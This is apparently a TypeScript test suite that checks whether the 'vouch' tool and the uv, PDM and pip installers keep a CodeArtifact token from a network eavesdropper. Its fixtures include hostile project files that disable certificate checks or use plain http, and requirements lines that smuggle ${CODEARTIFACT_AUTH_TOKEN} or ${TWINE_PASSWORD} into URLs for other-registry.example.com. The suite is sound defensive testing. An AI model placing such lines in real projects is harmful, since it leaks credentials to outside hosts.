/** Projects that lead uv and PDM elsewhere with the token, and pip and uv under `vouch exec`, on a network where somebody listens. */
import { afterAll, beforeAll, beforeEach, describe, expect, test } from "bun:test";
import { mkdirSync } from "node:fs";
import { join } from "node:path";
import { requires } from "../../../requires.ts";
import { names } from "../../../sandbox/main.ts";
import { type HostileProject, startHostileProject } from "./project.ts";

const tools = join(import.meta.dir, "../../../../.tools");
const recent = join(tools, "pip-26/bin");
const host = names.packageHost;
const index = `https://aws@${host}/pypi/${names.repository}/simple/`;

let at: HostileProject;
beforeAll(async () => {
  at = await startHostileProject();
});
afterAll(() => at?.[Symbol.asyncDispose]());
beforeEach(() => at.reset());

describe.skipIf(!requires(join(recent, "uv")))("uv in a hostile project", () => {
  const uv = ["uv", "pip", "install", "--keyring-provider", "subprocess", "--no-cache", "--target", "site"];
  const command = [...uv, "--python", join(recent, "python")];
  const insecure = `allow-insecure-host = ["${host}"]\n`;

  test.each<[string, Record<string, string>, string[]]>([
    ["uv.toml that checks no certificate", { "uv.toml": insecure }, ["--index-url", index, "my-package"]],
    ["pyproject.toml likewise", { "pyproject.toml": `[tool.uv]\n${insecure}` }, ["--index-url", index, "my-package"]],
    ["with escapes", { "uv.toml": insecure.replace("my-", "my\\u002d") }, ["--index-url", index, "my-package"]],
    [
      "with a port",
      { "uv.toml": `allow-insecure-host = ["https://${host}:443"]\n` },
      ["--index-url", index, "my-package"],
    ],
    [
      "an index over http",
      { "uv.toml": `[[index]]\nurl = "${index.replace("https", "http")}"\ndefault = true\n` },
      ["my-package"],
    ],
    [
      "requirements over http",
      { "r.txt": `--index-url ${index.replace("https", "http")}\nmy-package\n` },
      ["-r", "r.txt"],
    ],
    [
      "a direct URL over http",
      { "r.txt": `my-package @ http://aws@${host}/my_package-1.0.0-py3-none-any.whl\n` },
      ["-r", "r.txt"],
    ],
  ])(
    "gives nobody the token: %s",
    async (_, files, args) => {
      await at.run(recent, [...command, ...args], files);
      expect(at.tokensHeard()).toEqual([]);
    },
    60_000,
  );

  const settingsOfScript = [`dependencies = ["my-package"]`, "[tool.uv]", insecure.trim(), `index-url = "${index}"`];
  const script = ["# /// script", ...settingsOfScript.map((line) => `# ${line}`), "# ///", "print(1)", ""].join("\n");
  const subproject = `[project]\nname = "x"\nversion = "1"\nrequires-python = ">=3.8"\ndependencies = ["my-package"]\n`;
  const above = `${insecure}index-url = "${index}"\n`;
  const byKeyring = ["--keyring-provider", "subprocess", "--no-cache", "--python", join(recent, "python")];
  test.each<[string, Record<string, string>, string[]]>([
    ["the metadata of a script", { "s.py": script }, ["uv", "run", ...byKeyring, "s.py"]],
    ["of a script of another name", { script }, ["uv", "run", ...byKeyring, "--script", "script"]],
    ["a file above the project", { "uv.toml": above }, ["uv", "lock", ...byKeyring, "--project", "sub"]],
    ["a file above the folder", { "uv.toml": above }, ["uv", "lock", ...byKeyring, "--directory", "sub"]],
  ])(
    "gives nobody the token: %s",
    async (_, files, args) => {
      mkdirSync(join(at.folder, "sub"));
      await at.run(recent, args, { ...files, "sub/pyproject.toml": subproject });
      expect(at.tokensHeard()).toEqual([]);
      // Something was asked for, so that there was an occasion.
      expect(at.eavesdropper.heard.length).toBeGreaterThan(0);
    },
    60_000,
  );

  test("gives the token to the listener for a person who has chosen not to check", async () => {
    await at.run(recent, [...command, "--allow-insecure-host", host, "--index-url", index, "my-package"], {});
    expect(at.tokensHeard()).not.toEqual([]);
  });

  test("installs where the project's settings are honest", async () => {
    const files = {
      "uv.toml": `allow-insecure-host = ["localhost"]\nkeyring-provider = "subprocess"\n[[index]]\nname = "ours"\nurl = "${index}"\ndefault = true\n`,
    };
    const { exitCode, stderr } = await at.run(recent, [...command, "my-package"], files, { honest: true });
    expect({ exitCode, stderr: exitCode === 0 ? "" : stderr }).toEqual({ exitCode: 0, stderr: "" });
  });
});

const pdm = join(tools, "pdm/bin");
describe.skipIf(!requires(join(pdm, "pdm")))("PDM in a hostile project", () => {
  const source = (more: string): string =>
    `[project]\nname = "x"\nversion = "1"\nrequires-python = ">=3.8"\ndependencies = ["my-package"]\n[[tool.pdm.source]]\nname = "pypi"\nurl = "${index.replace("aws@", "")}"\n${more}`;
  const command = ["pdm", "lock", "--no-cross-platform"];

  test.each([
    ["verify_ssl = false", source("verify_ssl = false\n")],
    ["http", source("").replace("https:", "http:")],
  ])(
    "gives nobody the token: %s",
    async (_, pyproject) => {
      await at.run(pdm, command, { "pyproject.toml": pyproject });
      expect(at.tokensHeard()).toEqual([]);
    },
    120_000,
  );

  test("asks with an empty user name and locks", async () => {
    const { exitCode, stdout, stderr } = await at.run(pdm, command, { "pyproject.toml": source("") }, { honest: true });
    expect({ exitCode, said: exitCode === 0 ? "" : stdout + stderr }).toEqual({ exitCode: 0, said: "" });
  });
});

describe.skipIf(!requires(join(recent, "pip")))("under vouch exec in a hostile project", () => {
  const other = "other-registry.example.com";
  const install = [
    "install",
    "--no-input",
    "--no-cache-dir",
    "--retries",
    "0",
    "--target",
    "site",
    "-r",
    "requirements.txt",
  ];
  const commands: [string, string[]][] = [
    ["pip behind the shim", ["sh", "-c", 'exec pip "$@"', "sh", ...install]],
    ["pip by its path", [join(recent, "pip"), ...install]],
    ["python -m pip", [join(recent, "python"), "-m", "pip", ...install]],
    [
      "uv",
      [
        "uv",
        "pip",
        "install",
        "--no-cache",
        "--python",
        join(recent, "python"),
        "--target",
        "site",
        "-r",
        "requirements.txt",
      ],
    ],
  ];
  const lines: [string, string][] = [
    [
      "case A6/variable",
      `--index-url https://aws:\${CODEARTIFACT_AUTH_TOKEN}@${other}/pypi/my-repo/simple/\nmy-package\n`,
    ],
    ["another variable", `--extra-index-url https://aws:\${TWINE_PASSWORD}@${other}/simple/\nmy-package\n`],
    ["the index in a query", `my-package @ https://${other}/x.whl?\${PIP_INDEX_URL}\n`],
    [
      "our host as a user name",
      `--index-url https://aws:\${CODEARTIFACT_AUTH_TOKEN}@${host}@${other}/simple/\nmy-package\n`,
    ],
    ["a name", `my-package-\${CODEARTIFACT_AUTH_TOKEN}\n`],
  ];

  describe.each(commands)("with %s", (_, command) => {
    test.each(lines)(
      "a line is refused, with file and line number: %s",
      async (_title, requirements) => {
        const files = { "requirements.txt": requirements };
        const { exitCode, stderr } = await at.run(recent, ["vouch", "exec", "--", ...command], files);
        expect(stderr).toMatch(/^vouch: requirements\.txt:1 puts the token of [A-Z_]+ into /m);
        expect(exitCode).toBe(5);
        expect(at.eavesdropper.heard).toEqual([]);
      },
      60_000,
    );

    test("AWS's documented form for our repository installs", async () => {
      const line = `--index-url https://aws:\${CODEARTIFACT_AUTH_TOKEN}@${index.slice("https://aws@".length)}\nmy-package\n`;
      const { exitCode, stderr } = await at.run(
        recent,
        ["vouch", "exec", "--", ...command],
        { "requirements.txt": line },
        { honest: true },
      );
      expect({ exitCode, stderr: exitCode === 0 ? "" : stderr }).toEqual({ exitCode: 0, stderr: "" });
    });
  });

  test.each<[string, string[]]>([
    ["a constraint", ["uv", "pip", "install", "--constraints=requirements.txt", "my-package"]],
    ["what is compiled", ["uv", "pip", "compile", "requirements.txt"]],
    ["a longer option", ["uv", "run", "--with-requirements", "requirements.txt", "true"]],
    ["pip's constraint, shortened", ["pip", "download", "--con", "requirements.txt", "my-package"]],
  ])(
    "%s is read for such lines as well",
    async (_, command) => {
      const { exitCode, stderr } = await at.run(recent, ["vouch", "exec", "--", ...command], {
        "requirements.txt": lines[0]![1],
      });
      expect({ exitCode, stderr }).toMatchObject({
        exitCode: 5,
        stderr: expect.stringMatching(/requirements\.txt:1 puts/),
      });
    },
    60_000,
  );

  test.each(["PIP_INDEX_URL", "TWINE_REPOSITORY_URL"])("%s that the person has set stays", async (name) => {
    const options = { env: { [name]: "https://pypi.example/simple/" }, honest: true };
    const { stdout } = await at.run(recent, ["vouch", "exec", "--", "env"], {}, options);
    expect(
      stdout
        .match(new RegExp(`^${name.slice(0, 4)}\\w+=.*$`, "gm"))
        ?.filter((line) => !line.startsWith("PIP_CERT") && !line.startsWith("PIP_DISABLE")),
    ).toEqual([`${name}=https://pypi.example/simple/`]);
  });

  test("the index in the person's PIP_CONFIG_FILE stays", async () => {
    const file = join(at.folder, "own.conf");
    const { stdout } = await at.run(
      recent,
      ["vouch", "exec", "--", "env"],
      { "own.conf": "[global]\nindex-url = https://pypi.example/simple/\n" },
      { env: { PIP_CONFIG_FILE: file }, honest: true },
    );
    expect(stdout).not.toContain("PIP_INDEX_URL=");
  });
});
